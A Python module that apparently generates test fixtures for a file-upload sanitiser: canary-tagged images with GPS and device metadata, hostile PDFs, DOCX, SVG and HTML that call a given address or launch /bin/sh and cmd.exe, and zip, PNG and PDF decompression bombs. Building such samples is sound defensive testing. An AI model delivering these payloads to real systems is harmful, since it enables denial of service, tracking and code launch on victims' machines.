"""Files as people, and those who hunt them, might send. All are made here; nobody's picture is among them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image, PngImagePlugin

CANARY = "Kanareika-Vydumannaya-8842"


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **how: Any) -> bytes:
    """A plain picture: red on the left, blue on the right."""
    image = Image.new("RGB", size, (0, 0, 200))
    image.paste((200, 0, 0), (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    image.convert(mode).save(out, form, **how)
    return out.getvalue()


def exif(orientation: int = 6) -> Image.Exif:
    """Where, with what and by whom: GPS, serial number, maker's note, a comment."""
    data = Image.Exif()
    data[0x0112] = orientation
    data[0x010E] = data[0x013B] = data[0x8298] = CANARY
    data[0x010F], data[0x0110] = "Maker", f"Model {CANARY}"
    data.get_ifd(0x8769).update({0x9003: "2026:01:02 03:04:05", 0x927C: CANARY.encode(), 0xA431: f"SN-{CANARY}"})
    data.get_ifd(0x8825).update({1: "N", 2: (43.0, 19.0, 1.0), 3: "E", 4: (45.0, 41.0, 2.0), 29: "2026:01:02"})
    return data


XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{CANARY}</dc:creator></rdf:Description></rdf:RDF>'
    '</x:xmpmeta><?xpacket end="w"?>'
).encode()


def _profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _png_texts() -> PngImagePlugin.PngInfo:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", CANARY)
    texts.add_itxt("XML:com.adobe.xmp", XMP.decode())
    texts.add_text("Comment", CANARY, zip=True)
    return texts


def told() -> dict[str, bytes]:
    """A picture of each format, with all that it can tell of its place, device and author."""
    thumbnail = picture(size=(16, 12), comment=CANARY.encode())
    jpeg = picture(exif=exif(), comment=CANARY.encode(), xmp=XMP, icc_profile=_profile())
    return {
        "jpeg": jpeg,
        "jpeg with a thumbnail": jpeg[:2] + _segment(0xE2, b"Thumb\0" + thumbnail) + jpeg[2:],
        "png": picture("PNG", pnginfo=_png_texts(), exif=exif(), icc_profile=_profile()),
        "webp": picture("WEBP", exif=exif(), xmp=XMP, icc_profile=_profile()),
        "tiff": picture("TIFF", exif=exif(), description=CANARY, artist=CANARY, icc_profile=_profile()),
        "gif": picture("GIF", comment=CANARY.encode()),
    }


def _segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


# documents


def pdf(
    *,
    pages: int = 1,
    box: str = "0 0 300 200",
    catalog: str = "",
    page: str = "",
    stream: bytes = b"",
    filters: str = "",
) -> bytes:
    """A PDF by hand, so that anything can stand in it. Each page draws a rectangle, then `stream`."""
    drawing = stream or b"1 0 0 rg 20 20 100 100 re f\n"
    numbers = range(4, 4 + pages)
    objects = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>".encode(),
        f"<</Type/Pages/Count {pages}/Kids[{' '.join(f'{n} 0 R' for n in numbers)}]>>".encode(),
        f"<</Length {len(drawing)}{filters}>>stream\n".encode() + drawing + b"\nendstream",
        *[f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 3 0 R {page}>>".encode() for _ in numbers],
        f"<</Author({CANARY})/Creator({CANARY})/Title({CANARY})>>".encode(),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    begin, count = len(out), len(objects) + 1
    out += f"xref\n0 {count}\n0000000000 65535 f \n".encode() + table
    out += f"trailer<</Size {count}/Root 1 0 R/Info {count - 1} 0 R>>\nstartxref\n{begin}\n%%EOF\n".encode()
    return bytes(out)


def hostile_documents(address: str) -> dict[str, bytes]:
    """Documents that would call an address, start a program or fetch a template, if anybody let them."""
    script = f"app.launchURL('{address}js');this.submitForm('{address}js');"
    link = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({address}uri)>>>>]"
    launch = "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>"
    outside = f"/Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(<</FS/URL/F({address}r)>>)/D[0/Fit]>>"
    form = "/AcroForm<</Fields[]/XFA(<xdp><script>app.launchURL('x')</script></xdp>)/NeedAppearances true>>"
    return {
        "pdf with a script": pdf(catalog=f"/OpenAction<</S/JavaScript/JS({script})>>"),
        "pdf with a named script": pdf(catalog=f"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS({script})>>]>>>>"),
        "pdf that starts a program": pdf(catalog=f"/OpenAction<<{launch}>>", page=f"/AA<</O<<{launch}>>>>"),
        "pdf with a link": pdf(catalog=f"/OpenAction<</S/URI/URI({address}uri)>>", page=link),
        "pdf that imports": pdf(page=f"/AA<</O<</S/ImportData/F({address}fdf)>>>>/Annots[<<{outside}>>]"),
        "pdf with a form": pdf(catalog=form),
        "docx with a template elsewhere": docx(address),
        "svg": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{address}svg'/></svg>".encode(),
        "html": f"<!doctype html><img src='{address}html'><script>fetch('{address}js')</script>".encode(),
        "playlist": f"#EXTM3U\n{address}m3u8\n".encode(),
    }


def docx(address: str) -> bytes:
    """A Word file whose template lies on a server: opening it would tell the server."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="r1" Type="{kind}" Target="{address}template.dotm" TargetMode="External"/>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("docProps/core.xml", f"<dc:creator>{CANARY}</dc:creator>")
        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>")
    return out.getvalue()


# bombs


def _zip(name: str, data: bytes, copies: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(copies):
            archive.writestr(f"{number}{name}", data)
    return out.getvalue()


def nested_zip() -> bytes:
    """As 42.zip: archives in archives in archives, sixteen each, of zeros."""
    inner = _zip(".dll", bytes(16 * 1024 * 1024))
    for _ in range(4):
        inner = _zip(".zip", inner, 16)
    return inner


def overlapping_zip() -> bytes:
    """Fifield's construction in its simplest form: every entry of the directory is the same compressed bytes."""
    whole = bytearray(_zip("a", bytes(16 * 1024 * 1024)))
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry, body, tail = bytes(whole[start:end]), bytes(whole[:start]), bytearray(whole[end:])
    entries = b"".join(entry.replace(b"0a", f"{number:02x}".encode()) for number in range(250))
    struct.pack_into("<HHII", tail, 8, 250, 250, len(entries), len(body))
    return body + entries + bytes(tail)


def png(width: int, height: int, *chunks: bytes, data: bytes = b"") -> bytes:
    """A PNG by hand."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [
        _chunk(b"IHDR", head),
        *chunks,
        _chunk(b"IDAT", data or zlib.compress(bytes(10_000))),
        _chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def deflated(size: int, times: int = 1) -> bytes:
    """Zeros, compressed without ever being held."""
    squeeze, out = zlib.compressobj(9), []
    block = bytes(1024 * 1024)
    for _ in range(size // len(block)):
        out.append(squeeze.compress(block))
    data = b"".join([*out, squeeze.flush()])
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _image_object(data: bytes, width: int, height: int, filters: str) -> bytes:
    """A PDF whose page draws one large picture."""
    inside = f"/Resources<</XObject<</I 3 0 R>>>>/Contents 4 0 R/Width {width}/Height {height}"
    return pdf(
        stream=data, filters=f"{filters}/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceRGB{inside}"
    )


def bombs() -> dict[str, Callable[[], bytes]]:
    """Small files that would fill a disk, a memory or a day."""
    frames = [Image.new("L", (8, 8), number % 256) for number in range(500)]
    return {
        "nested zip": nested_zip,
        "overlapping zip": overlapping_zip,
        "png of 50,000 by 50,000": lambda: png(50_000, 50_000),
        "png of 50,000 by 50,000 with its pixels": lambda: png(50_000, 50_000, data=deflated(512 << 20)),
        "png of the largest side": lambda: png(2**31 - 1, 2**31 - 1),
        "png with a profile that expands": lambda: png(9, 9, _chunk(b"iCCP", b"a\0\0" + deflated(512 << 20))),
        "png with a text that expands": lambda: png(9, 9, _chunk(b"zTXt", b"a\0\0" + deflated(512 << 20))),
        "jpeg of 65,000 by 65,000": lambda: _resized_jpeg(65_000, 65_000),
        "gif of 65,000 by 65,000": lambda: picture("GIF").replace(struct.pack("<HH", 60, 40), b"\xe8\xfd\xe8\xfd"),
        "webp of 16,000 by 16,000": _large_webp,
        "tiff that says it has a huge strip": lambda: picture("TIFF").replace(
            struct.pack("<I", 60), b"\xff\xff\xff\x7f"
        ),
        "pdf with a huge page": lambda: pdf(box="0 0 200000 200000"),
        "pdf with a page beyond measure": lambda: pdf(box="0 0 99999999999 99999999999"),
        "pdf with a page of no size": lambda: pdf(box="0 0 0 0"),
        "pdf with an endless page": lambda: pdf(box="0 0 1e38 1e-38"),
        "pdf that expands": lambda: pdf(stream=deflated(1 << 30), filters="/Filter/FlateDecode"),
        "pdf that expands twice": lambda: pdf(stream=deflated(1 << 30, 2), filters="/Filter[/FlateDecode/FlateDecode]"),
        "pdf with a huge picture": lambda: _image_object(deflated(512 << 20), 50_000, 50_000, "/Filter/FlateDecode"),
        "pdf whose pages are its pages": lambda: pdf().replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]"),
        "gif of many pictures": lambda: _animated(frames),
    }


def _resized_jpeg(width: int, height: int) -> bytes:
    data = bytearray(picture())
    at = data.index(b"\xff\xc0") + 5
    struct.pack_into(">HH", data, at, height, width)
    return bytes(data)


def _large_webp() -> bytes:
    data = bytearray(picture("WEBP", mode="RGBA", lossless=True))
    at = data.index(b"VP8L") + 9
    bits = int.from_bytes(data[at : at + 4], "little") & ~0xFFFFFFF | (16_000 - 1) | (16_000 - 1) << 14
    data[at : at + 4] = bits.to_bytes(4, "little")
    return bytes(data)


def _animated(frames: list[Image.Image]) -> bytes:
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def size_of(data: bytes) -> tuple[int, int]:
    """Width and height of a picture."""
    return Image.open(io.BytesIO(data)).size
